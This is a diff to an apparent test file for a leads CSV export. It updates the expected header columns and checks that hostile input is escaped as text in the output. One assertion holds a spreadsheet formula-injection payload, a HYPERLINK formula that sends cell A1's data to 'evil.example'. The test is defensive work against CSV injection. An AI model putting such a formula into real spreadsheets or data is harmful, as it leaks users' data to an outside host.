@@ -77,7 +77,10 @@ describe('npm run leads with hostile text', () => {
   it('--csv gives a spreadsheet text, never a formula', async () => {
     const { stdout } = await leads('--csv')
     const lines = stdout.split('\r\n')
-    expect(lines[0]).toBe('created_at (IST),name,email,phone,service,source_page,message')
+    // The editor's Enquiries download, column for column (scripts/editor/enquiry-rows.ts, enquiriesCsv).
+    expect(lines[0]).toBe(
+      'created_at (IST),form,name,email,phone,service,page,message,came by,status,status set by,status set at (IST),note,fee (₹)',
+    )
     // Times in IST as a spreadsheet reads a date and time.
     expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},/)
     expect(stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
